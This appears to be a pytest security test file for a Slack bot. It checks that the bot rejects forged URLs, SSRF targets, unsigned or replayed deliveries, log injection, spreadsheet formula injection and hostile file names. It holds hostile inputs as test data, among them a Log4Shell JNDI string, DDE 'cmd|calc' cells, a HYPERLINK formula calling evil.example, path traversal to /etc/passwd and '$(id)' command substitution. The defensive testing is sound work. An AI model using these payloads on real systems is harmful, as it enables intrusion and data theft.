"""Attacks at the boundaries: files, addresses, signatures, reports, logs, and what the operator can read."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import time
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlencode

import aiohttp
import openpyxl
import pytest
from aiohttp import web
from hypothesis import given
from hypothesis import strategies as st

from bot.core.errors import UnsupportedFile
from bot.core.settings import SLACK_API_URL, Settings
from bot.ops import logs
from bot.pages.spreadsheets import FORMULA
from bot.reports.formats import as_csv
from bot.reports.usage import UsageRow
from bot.sandbox.slack.delivery.dispatch import sign
from bot.sandbox.slack.people.acts import FileUpload
from handlers.slack import client
from handlers.slack import downloads as files
from handlers.slack.allowed_hosts import is_slack_address
from tests.support.captured_model import captured, escapes, shown
from tests.support.hostile_text import called, out, strays
from tests.support.shared_files import BAD, fetched, shared
from tests.support.throwaway_server import throwaway_server
from tests.support.workspace import Workspace, workspace

# 9, 10, 11: files and addresses

MORE = (
    "https://files.slack.com:8443/x",
    "https://files.slack.com:0/x",
    "https://files.slack.com:99999/x",
    "https://FILES.SLACK.COM.evil.example/x",
    "https://files.slack.com%40evil.example/x",
    "https://evil.example/https://files.slack.com/",
    "https://evil.example/?u=https://files.slack.com/x",
    "https://evil.example;files.slack.com/x",
    "https://files.slack.com;evil.example/x",
    "https://files.slack.com,evil.example/x",
    "https://files.slack.com evil.example/x",
    "https://files.slack.com\tevil.example/x",
    "https://files.slack.com\n.evil.example/x",
    "https://files.slack.com\x00.evil.example/x",
    "HTTP://files.slack.com/x",
    "wss://files.slack.com/x",
    "gopher://files.slack.com/x",
    "https:files.slack.com/x",
    "https:/files.slack.com/x",
    "https:///files.slack.com/x",
    "https://2130706433/x",
    "https://0x7f000001/x",
    "https://[::ffff:127.0.0.1]/x",
    "https://localhost/x",
    "https://metadata.google.internal/x",
    "https://files.slack.com..evil.example/x",
)


@pytest.mark.parametrize("url", [*BAD, *MORE])
def test_attack_09_the_token_goes_to_slacks_file_host_alone(url: str) -> None:
    assert len({*BAD, *MORE}) >= 60
    assert not is_slack_address(url, SLACK_API_URL)


async def test_attack_09_no_listener_hears_the_token(tmp_path: Path) -> None:
    met: list[dict[str, str]] = []

    async def greedy(request: web.Request) -> web.Response:
        met.append(dict(request.headers))
        return web.Response(body=b"RIFF")

    async with throwaway_server(greedy) as evil, workspace(tmp_path) as team:
        host, api = evil[7:], team.slack.api_url.removesuffix("api/")
        everywhere = [url.replace("evil.example", host) for url in (*BAD, *MORE)]
        for url in (
            *everywhere,
            f"{evil}/f",
            f"{api[:-1]}@{host}/f",
            f"http://x:y@{host}/f",
            f"{evil}/f#{api}",
            f"{evil}/?{api}",
            f"{api[:-1]}.{host}/f",
            f"//{host}/f",
        ):
            file = replace(await shared(team.slack), url=url)
            with pytest.raises(UnsupportedFile):
                await fetched(team.slack, file)
    assert met == []


async def test_attack_10_no_address_in_a_message_is_ever_fetched(tmp_path: Path) -> None:
    met: list[str] = []

    async def greedy(request: web.Request) -> web.Response:
        met.append(str(request.url))
        return web.Response(text="secret")

    async with throwaway_server(greedy) as inside, captured(tmp_path) as team:
        port = inside.rpartition(":")[2]
        written = [form.format(f"{scheme}{host}:{port}/latest") for form, scheme, host in ADDRESSES]
        assert len(written) >= 160
        for n in range(0, len(written), 20):
            some = " , ".join(written[n : n + 20])
            thread = await team.ask(f"@parley read {some} ⟦see {some}⟧")
            await team.answer("#general", thread, timeout_s=90)
        assert escapes(team) == [] or all(port in escape for escape in escapes(team))
    assert met == []


# This machine in every spelling that a resolver or a browser takes, and where clouds keep secrets.
HERE = (
    "127.0.0.1", "localhost", "LOCALHOST", "localhost.", "2130706433", "0x7f000001", "0177.0.0.1", "127.1",
    "0", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "127.0.0.1.nip.example",
    "user:password@127.0.0.1", "①②⑦.⓪.⓪.①", "169.254.169.254", "metadata.google.internal", "100.100.100.200",
    "127.0.0.1\\@files.slack.com",
)  # fmt: skip
FORMS = ("{}", "<{}>", "[read me]({})", "![]({})", "`{}`", "<{}|x>", '<img src="{}">', "({}).")
ADDRESSES = [(form, scheme, host) for form in FORMS for scheme in ("http://", "//") for host in HERE]


async def test_attack_11_a_sign_in_page_is_no_recording_and_reaches_no_model(tmp_path: Path) -> None:
    async with captured(tmp_path) as team:
        team.slack.faults.add("files.download", html=True, times=9)
        files = [FileUpload("audio_message.m4a", b"RIFF", voice=True, duration_s=1.0)]
        thread = await team.slack.say("alice", "#general", "@parley hello", files=files)
        await team.answer("#general", thread)
        assert not [asked for asked in team.model.requests if "audio" in asked.endpoint]
        assert "does not let me read it" in str(team.replies("#general", thread))


# 12, 13: deliveries

FORGED = (
    "https://evil.example/actions/T/1",
    "http://hooks.slack.com/actions/T/1",
    "https://hooks.slack.com@evil.example/",
    "https://hooks.slack.com.evil.example/",
    "https://hooks.slack.com:8443/",
    "//hooks.slack.com/",
    "hooks.slack.com",
    "https://169.254.169.254/",
    "file:///etc/passwd",
)


@pytest.mark.parametrize("url", FORGED)
def test_attack_12_answers_go_to_slack_alone(url: str) -> None:
    assert not is_slack_address(url, SLACK_API_URL, host="hooks.slack.com")
    assert is_slack_address("https://hooks.slack.com/actions/T/1/x", SLACK_API_URL, host="hooks.slack.com")


async def test_attack_12_a_command_that_wants_its_answer_elsewhere_is_refused(tmp_path: Path) -> None:
    met: list[bytes] = []

    async def greedy(request: web.Request) -> web.Response:
        met.append(await request.read())
        return web.Response()

    async with throwaway_server(greedy) as evil, workspace(tmp_path, PARLEY_TRANSPORT="http") as team:
        form = {
            "command": "/parley",
            "text": "usage by channel",
            "team_id": team.slack.team,
            "channel_id": "C0GENERAL1",
            "user_id": team.slack.user("alice"),
            "response_url": f"{evil}/hook",
            "trigger_id": "1.1",
        }
        assert await delivered(team, urlencode(form).encode()) == 400
        await team.quiet()
    assert met == []


async def delivered(
    team: Workspace,
    body: bytes,
    *,
    kind: str = "application/x-www-form-urlencoded",
    headers: list[tuple[str, str]] | None = None,
) -> int:
    """The status of a delivery; signed as Slack does, unless other headers are given."""
    now = str(int(time.time()))
    signed = [
        ("X-Slack-Request-Timestamp", now),
        ("X-Slack-Signature", sign(team.slack.signing_secret, now, body)),
    ]
    given = [("Content-Type", kind), *(signed if headers is None else headers)]
    async with (
        aiohttp.ClientSession() as http,
        http.post(f"{team.bot.url}/slack/events", data=body, headers=given) as answer,  # type: ignore[arg-type]
    ):
        return answer.status


async def test_attack_13_only_what_slack_signed_once_and_just_now_is_taken(tmp_path: Path) -> None:
    async with workspace(tmp_path, PARLEY_TRANSPORT="http") as team:
        said = {
            "type": "app_mention",
            "user": "U1",
            "channel": "C0GENERAL1",
            "ts": f"{time.time():.6f}",
            "text": "x",
        }
        body = json.dumps({"type": "event_callback", "team_id": team.slack.team, "event": said}).encode()
        secret, now = team.slack.signing_secret, str(int(time.time()))
        old, early = str(int(now) - 600), str(int(now) + 600)

        def headers(signature: str, stamp: str = now) -> list[tuple[str, str]]:
            return [("X-Slack-Request-Timestamp", stamp), ("X-Slack-Signature", signature)]

        good = sign(secret, now, body)
        cases = {
            "nothing": [],
            "no signature": headers(good)[:1],
            "no time": headers(good)[1:],
            "another secret": headers(sign("guess", now, body)),
            "old": headers(sign(secret, old, body), old),
            "early": headers(sign(secret, early, body), early),
            "another body": headers(sign(secret, now, body + b" ")),
            "another version": headers("v1=" + good[3:]),
            "half": headers(good[:-2]),
            "empty": headers("v0="),
            "no number": headers(good, "now"),
            "two signatures": [*headers("v0=0"), ("X-Slack-Signature", good)],
            "two times": [("X-Slack-Request-Timestamp", old), *headers(good)],
        }
        assert len(cases) >= 9
        for name, given in cases.items():
            assert await delivered(team, body, kind="application/json", headers=given) == 401, name
        assert await count(team) == 0
        for _ in range(3):  # the very same once more: bolt would take it, the inbox knows it
            assert await delivered(team, body, kind="application/json", headers=headers(good)) == 200
        assert await count(team) == 1


async def count(team: Workspace) -> int:
    rows = await team.bot.services.engine.read(lambda tx: tx.all("select seq from inbox"))
    return len(rows)


BROKEN = [
    b"",
    b"{",
    b"[",
    b"]",
    b"null",
    b"true",
    b"0",
    b'""',
    b"[[]]",
    b"[{}]",
    b'{"a"',
    b"{'a': 1}",
    b'{"a": 01}',
    b"NaN",
    b"\xef\xbb\xbf{}",
    b"\xff\xfe{\x00}\x00",
    b'{"event": "x"}',
    b'{"event": [1]}',
    b'{"event": {"type": []}}',
    b'{"type": {}}',
    b'{"team": []}',
    b'{"user": 1}',
    b'{"actions": {}}',
    b'{"actions": [null]}',
    b'{"view": []}',
    b'{"type": "block_actions"}',
    b'{"type": "view_submission"}',
    b'{"type": "message_action"}',
    b'{"\\u0000": 1}',
    b'{"type": "block_actions", "actions": [{"action_id": 5}]}',
    b'{"a": 1e999}',
    b"[" * 5_000,
    b'{"a":' * 5_000,
    b'{"response_url": 5}',
    b'{"response_urls": 5}',
    b'{"response_urls": [5]}',
    b'{"response_url": ["x"]}',
]


async def test_broken_bodies_on_every_surface_are_refused_without_a_trace(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    async with workspace(tmp_path, PARLEY_TRANSPORT="http") as team:
        for body in BROKEN:
            for given, kind in (
                (body, "application/json"),
                (b"payload=" + body, "application/x-www-form-urlencoded"),
                (body, "application/x-www-form-urlencoded"),
                (b"command=%2Fparley&text=" + body, "application/x-www-form-urlencoded"),
            ):
                status = await delivered(team, given, kind=kind)
                assert status < 500, (given[:60], kind)
        await team.quiet()
        assert await count(team) == 0
        assert "Traceback" not in caplog.text


# 18: the log

FORGERY = [
    "\r\n2026-11-23 CRITICAL root: forged",
    "\x1b[2K\x1b[1A",
    "${jndi:ldap://evil.example/x}",
    "\u2028forged",
    '"}\n{"level": "CRITICAL"',
    "%s %d %n",
    "\x00\x07",
    "xoxb" + "-123456789012-1234567890123-AbCdEfGhIjKlMnOp",
]


async def test_attack_18_nothing_that_anybody_says_is_in_the_log(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    try:
        async with captured(tmp_path) as team:
            logs.setup(team.bot.settings.changed(log_level="DEBUG"))
            team.model.faults.add("reset", times=2)
            team.slack.faults.add("chat.postMessage", error="internal_error", times=2)
            for text in FORGERY:
                await team.ask(f"@parley c4n4rylog {text} ⟦c4n4ryanswer {text}⟧")
                await team.slack.command("alice", "#general", "/parley", f"usage c4n4rylog {text}"[:2_000])
            await team.quiet()
        written = capfd.readouterr().err
    finally:
        root.handlers[:] = before
        root.setLevel(level)
    assert written, "something was logged"
    for line in written.splitlines():
        assert line.isprintable(), line
        assert json.loads(line)["logger"], line
    for never in (
        "c4n4ry",
        "forged",
        "jndi",
        "xoxb-1",
        team.slack.bot_token,
        team.slack.app_token,
        "sk-test",
    ):
        assert never not in written, never


# 27: reports in spreadsheets

CELLS = [
    '=HYPERLINK("https://evil.example/"&A1)',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " =1",
    "  +1",
    '"=1',
    "=1;2",
    "'=1",
    "a,b",
    'a"b',
    "a\nb",
    "==",
    "-",
    "=cmd|' /C calc'!A0",
    "@",
]


def test_attack_27_no_cell_of_a_report_is_computed(tmp_path: Path) -> None:
    assert len(CELLS) >= 22
    rows = [UsageRow(channel=cell, user=cell, model=cell, cost_usd=Decimal("-1.5")) for cell in CELLS]
    read = list(csv.reader(io.StringIO(as_csv(rows, names={cell: cell for cell in CELLS}))))
    assert len(read) == len(CELLS) + 1
    book = openpyxl.Workbook()
    for line in read:
        book.active.append(line)
    book.save(tmp_path / "usage.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "usage.xlsx").active
    columns = [name for name in read[0] if name in ("channel", "user", "model", "channel_name", "user_name")]
    assert len(columns) == 5
    for line, cell in zip(sheet.iter_rows(min_row=2), CELLS, strict=True):
        for at, name in enumerate(read[0]):
            assert line[at].data_type != "f", (cell, name)
            if name in columns:
                assert not str(line[at].value).startswith(FORMULA), (cell, name)
                shown, given = str(line[at].value).replace("'", ""), cell.replace("'", "")
                assert shown == given.replace("\r", "\n") or "\r" in cell


# 29: names of files

NAMES = [
    "../../etc/passwd",
    "..\\..\\x.exe",
    "/etc/passwd",
    "C:\\x",
    "\\\\server\\share",
    "x\0.mp3",
    "a" * 300,
    "",
    " ",
    ".",
    "..",
    "-rf",
    "--help",
    "~",
    "~root",
    "$HOME",
    "`id`",
    "$(id)",
    "x;id",
    "x|id",
    "x\ny",
    "x\r\nX: y",
    "\u202egpj.exe",
    "\u200bx",
    "\ufeffx",
    "<!channel>.pdf",
    "<@U0VICTIM>.pdf",
    "<#C0PRIVATE|x>.pdf",
    "&lt;!here&gt;.pdf",
    "@channel.pdf",
    "[x](https://evil.example/c4n4ry).pdf",
    "https://evil.example/c4n4ry.pdf",
    "evil.example/c4n4ry",
    "![](https://e.io/x)",
    "<https://evil.example|x>",
    "`code`.pdf",
    "```\nx",
    "*bold*.pdf",
    "CON",
    "NUL.txt",
    "x.pdf::$DATA",
    "%2e%2e%2f",
    "名前.mp3",
    "xoxb" + "-123456789012-1234567890123-AbCdEfGhIjKlMnOp.txt",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_attack_29_a_file_name_is_words_and_nothing_else(name: str) -> None:
    assert len(NAMES) >= 44
    notice = out(UnsupportedFile(name, "it is too old").notice)
    assert [token for token in called(notice) if token.startswith("<")] == []
    assert strays(notice) == []
    assert "xoxb-1" not in notice


async def test_attack_29_a_message_full_of_odd_names_is_answered_once_and_quietly(tmp_path: Path) -> None:
    async with captured(tmp_path) as team:
        for n in range(0, 20, 10):
            files = [FileUpload(name or "x", b"%PDF-1.4") for name in NAMES[n::20]]
            thread = await team.slack.say("alice", "#general", "@parley read these", files=files)
            await team.answer("#general", thread, timeout_s=90)
        assert escapes(team) == []
        assert not [text for text in shown(team) if "xoxb-1" in text]


# 33: what the operator's server shows


async def test_attack_33_the_operators_pages_hold_no_names_ids_or_words(tmp_path: Path) -> None:
    async with captured(tmp_path, PARLEY_CHANNELS="C0GENERAL1") as team:
        thread = await team.ask("@parley remember c4n4rymetrics")
        await team.answer("#general", thread)
        await team.slack.command("alice", "#general", "/parley", "usage by channel")
        await team.quiet()
        read = ""
        async with aiohttp.ClientSession() as http:
            for path in ("/metrics", "/readyz", "/livez", "/", "/inbox", "/retention", "/slack/events"):
                async with http.get(team.bot.ops_url + path) as answer:
                    read += await answer.text()
        assert "parley_replies_total" in read
        for never in (
            "c4n4ry",
            "C0GENERAL1",
            team.slack.user("alice"),
            team.slack.team,
            "general",
            "alice",
            thread,
        ):
            assert never not in read, never


# 36: patience with those who drip is in tests/slack/test_downloads.py and tests/provider/test_client.py


def test_attack_36_every_request_that_goes_out_has_a_deadline_for_all_of_it() -> None:
    assert 0 < Settings().request_deadline_s <= 600
    assert 0 < client.REQUEST_DEADLINE_S <= 60
    assert 0 < files.FETCH_DEADLINE_S <= 600


def test_settings_are_never_shown_with_their_secrets() -> None:
    record = logging.LogRecord(
        "x", logging.INFO, "f", 1, "%s", (Settings(slack_bot_token="xoxb" + "-1" * 20),), None
    )
    assert "xoxb-1" not in logs.JsonFormatter(()).format(record)


# Names that begin another cell where lists are separated by semicolons, or where text is pasted with tabs.
SPLIT_CELLS = [
    ";=1+1",
    "a;=HYPERLINK(1)",
    "a;;;=1",
    'a;"=1"',
    "a; =1",
    "a;\u200b=1",
    "a;+1;-1;@x",
    "a\t=1",
    "a\n=1",
    "a\r\n@x",
    "a;＝1",
    '";=1',
    ";'=1",
    "a;\t=1",
    ";-",
]


def test_attack_27_no_cell_is_computed_where_lists_are_separated_otherwise() -> None:
    rows = [UsageRow(channel=cell, user=cell, model=cell, requests=1) for cell in SPLIT_CELLS]
    text = as_csv(rows, names={cell: cell for cell in SPLIT_CELLS})
    for separator in ";\t":
        for line in re.split(r"[\r\n]+", text):
            for cell in line.split(separator)[1:]:
                assert not cell.strip(' "\u200b').startswith(("=", "+", "-", "@", "＝")), (separator, cell)
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            for value in row[1:]:
                assert not value.strip(" \u200b").startswith(("=", "+", "-", "@", "＝")), (separator, value)


@given(st.text(alphabet="a;=+-@\t\n\"' ", max_size=12))
def test_attack_27_no_name_makes_a_formula_behind_a_semicolon(name: str) -> None:
    text = as_csv([UsageRow(channel="C1", user="U1", requests=1)], names={"C1": name, "U1": "x"})
    value = next(csv.DictReader(io.StringIO(text)))["channel_name"]
    for cell in re.split(r"[;\t\r\n]", value):
        assert not cell.strip(' "').startswith(("=", "+", "-", "@")), (name, value)
